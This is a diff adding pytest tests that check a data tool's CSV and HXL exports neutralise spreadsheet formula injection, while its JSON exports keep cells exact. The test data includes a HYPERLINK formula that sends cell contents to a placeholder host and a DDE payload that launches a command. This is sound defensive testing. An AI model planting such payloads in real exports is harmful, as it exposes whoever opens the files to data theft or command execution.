@@ -321,3 +321,54 @@ def test_a_date_the_frame_cannot_hold_becomes_empty_not_a_crash():
     frame = conform(pd.DataFrame({"date": [dt.date(2263, 1, 1), dt.date(2020, 1, 26), None]}))
     assert frame["date"].isna().tolist() == [True, False, True]
     assert frame["date"].iloc[1] == pd.Timestamp("2020-01-26")
+
+
+# --- issue 18: a cell a spreadsheet would run ---------------------------------------------
+
+# Text from the articles that Excel, LibreOffice or Google Sheets would take for a formula.
+FORMULAS = ['=HYPERLINK("http://x/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def hostile_figure(text: str) -> Figure:
+    quote = text + " More than 500 civilians were killed."
+    return figure(
+        quote, "More than 500",
+        indicator="killed", value=500, low=500, qualifier="at_least", people=500, unit="civilians",
+        document=text, title=text, outlet=text, source=text,
+    )
+
+
+def spreadsheet_rows(data: str, fmt: str) -> list[dict[str, str]]:
+    lines = io.StringIO(data, newline="")
+    if fmt == "hxl":
+        reader = csv.reader(lines)
+        names, _tags = next(reader), next(reader)
+        return [dict(zip(names, row)) for row in reader]
+    return list(csv.DictReader(lines))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("fmt", ["csv", "hxl"])
+def test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe(text, fmt):
+    f = hostile_figure(text)
+    for data in (written(fmt, [f]), export.frame_bytes(to_frame([f]), fmt).decode("utf-8")):  # file, dashboard download
+        (row,) = spreadsheet_rows(data, fmt)
+        for name in ("document", "title", "outlet", "source", "quote"):
+            assert row[name] == "'" + getattr(f, name), (fmt, name, row[name])
+        assert (row["value"], row["people"]) == ("500", "500"), "numbers stay numbers"
+        assert row["killed"] == "500" if fmt == "hxl" else True
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("fmt", ["jsonl", "json"])
+def test_json_formats_keep_every_cell_exact(text, fmt):
+    f = hostile_figure(text)
+    out = written(fmt, [f])
+    records = [json.loads(line) for line in out.splitlines()] if fmt == "jsonl" else json.loads(out)
+    assert [from_row(r) for r in records] == [f]
+
+
+def test_ordinary_cells_are_left_alone():
+    data = written("csv")
+    assert "'" + FIGURES[0].quote[:10] not in data
+    assert [r["quote"] for r in csv.DictReader(io.StringIO(data))] == [f.quote for f in FIGURES]
